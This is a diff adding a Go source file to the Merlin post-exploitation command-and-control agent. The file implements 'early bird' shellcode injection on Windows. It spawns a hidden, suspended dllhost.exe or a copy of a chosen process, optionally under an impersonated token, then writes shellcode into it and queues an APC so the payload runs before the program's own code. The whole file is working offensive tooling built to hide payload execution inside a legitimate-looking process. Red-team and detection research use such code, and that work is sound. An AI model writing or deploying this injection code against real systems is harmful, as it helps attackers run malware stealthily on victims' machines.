@@ -0,0 +1,159 @@
+//go:build windows
+
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+package commands
+
+import (
+	// Standard
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+
+	// X Packages
+	"golang.org/x/sys/windows"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/api/kernel32"
+	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/pkg/tokens"
+)
+
+// earlyBirdSpawnTo is the program, relative to the Windows directory, the earlybird shellcode method creates when a
+// process ID isn't provided
+const earlyBirdSpawnTo = `System32\dllhost.exe`
+
+// ExecuteShellcodeEarlyBird creates a suspended process, queues an APC that executes the shellcode to its first thread
+// before it runs, and resumes it. The process is a new instance of the program the provided process ID is running, or
+// dllhost.exe when the process ID is 0; 32-bit shellcode from a 64-bit Agent starts the SysWOW64 dllhost.exe instead.
+// Returns the ID of the created process
+func ExecuteShellcodeEarlyBird(shellcode []byte, pid uint32) (uint32, error) {
+	// Setup OS environment, if any
+	err := Setup()
+	if err != nil {
+		return 0, err
+	}
+	defer TearDown()
+
+	var application string
+	if pid != 0 {
+		application, err = processImage(pid)
+		if err != nil {
+			return 0, fmt.Errorf("commands/exec.ExecuteShellcodeEarlyBird: %s", err)
+		}
+	} else {
+		spawnTo := earlyBirdSpawnTo
+		if shellcodeArch(shellcode) == archX86 && agentArch() == archX64 {
+			spawnTo = `SysWOW64\dllhost.exe`
+		}
+		application = filepath.Join(os.Getenv("SYSTEMROOT"), spawnTo)
+	}
+	lpApplicationName, err := windows.UTF16PtrFromString(application)
+	if err != nil {
+		return 0, fmt.Errorf("commands/exec.ExecuteShellcodeEarlyBird: there was an error converting %s to LPCWSTR: %s", application, err)
+	}
+
+	lpProcessInformation := &windows.ProcessInformation{}
+	lpStartupInfo := &windows.StartupInfo{
+		Flags:      windows.STARTF_USESHOWWINDOW,
+		ShowWindow: windows.SW_HIDE,
+	}
+	flags := uint32(windows.CREATE_SUSPENDED | windows.CREATE_NO_WINDOW)
+	if tokens.Token != 0 {
+		err = windows.CreateProcessAsUser(tokens.Token, lpApplicationName, nil, nil, nil, false, flags, nil, nil, lpStartupInfo, lpProcessInformation)
+	} else {
+		err = windows.CreateProcess(lpApplicationName, nil, nil, nil, false, flags, nil, nil, lpStartupInfo, lpProcessInformation)
+	}
+	if err != nil {
+		return 0, fmt.Errorf("commands/exec.ExecuteShellcodeEarlyBird: there was an error creating the %s process: %s", application, err)
+	}
+	defer windows.CloseHandle(lpProcessInformation.Process)
+	defer windows.CloseHandle(lpProcessInformation.Thread)
+
+	err = earlyBird(lpProcessInformation.Process, lpProcessInformation.Thread, shellcode)
+	if err != nil {
+		// Don't leave a suspended process behind
+		_ = windows.TerminateProcess(lpProcessInformation.Process, 1)
+		return 0, fmt.Errorf("commands/exec.ExecuteShellcodeEarlyBird: %s", err)
+	}
+	return lpProcessInformation.ProcessId, nil
+}
+
+// earlyBird writes the shellcode into the suspended process, queues an APC that executes it to the process's first
+// thread, and resumes the thread so the APC runs before the program's entry point
+func earlyBird(process, thread windows.Handle, shellcode []byte) error {
+	// Refuse architecture combinations that can't work instead of crashing the new process
+	wow64, err := injectable(process, shellcode)
+	if err != nil {
+		return err
+	}
+
+	addr, err := kernel32.VirtualAllocEx(uintptr(process), 0, len(shellcode), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
+	if err != nil {
+		return err
+	}
+	if addr == 0 {
+		return errors.New("VirtualAllocEx failed and returned 0")
+	}
+
+	var lpNumberOfBytesWritten uintptr
+	err = windows.WriteProcessMemory(process, addr, &shellcode[0], uintptr(len(shellcode)), &lpNumberOfBytesWritten)
+	if err != nil {
+		return fmt.Errorf("there was an error calling Windows API WriteProcessMemory: %s", err)
+	}
+
+	var lpflOldProtect uint32
+	err = windows.VirtualProtectEx(process, addr, uintptr(len(shellcode)), windows.PAGE_EXECUTE_READ, &lpflOldProtect)
+	if err != nil {
+		return fmt.Errorf("there was an error calling Windows API VirtualProtectEx: %s", err)
+	}
+
+	apc := addr
+	if wow64 {
+		apc = wow64APC(addr)
+	}
+	err = kernel32.QueueUserAPC(apc, uintptr(thread), 0)
+	if err != nil {
+		return err
+	}
+
+	_, err = windows.ResumeThread(thread)
+	if err != nil {
+		return fmt.Errorf("there was an error calling Windows API ResumeThread: %s", err)
+	}
+	return nil
+}
+
+// processImage returns the full path of the program the process is running
+func processImage(pid uint32) (string, error) {
+	handle, err := windows.OpenProcess(windows.PROCESS_QUERY_LIMITED_INFORMATION, false, pid)
+	if err != nil {
+		return "", fmt.Errorf("there was an error calling Windows API OpenProcess for process %d: %s", pid, err)
+	}
+	defer windows.CloseHandle(handle)
+	buffer := make([]uint16, windows.MAX_LONG_PATH)
+	size := uint32(len(buffer))
+	err = windows.QueryFullProcessImageName(handle, 0, &buffer[0], &size)
+	if err != nil {
+		return "", fmt.Errorf("there was an error calling Windows API QueryFullProcessImageName for process %d: %s", pid, err)
+	}
+	return windows.UTF16ToString(buffer[:size]), nil
+}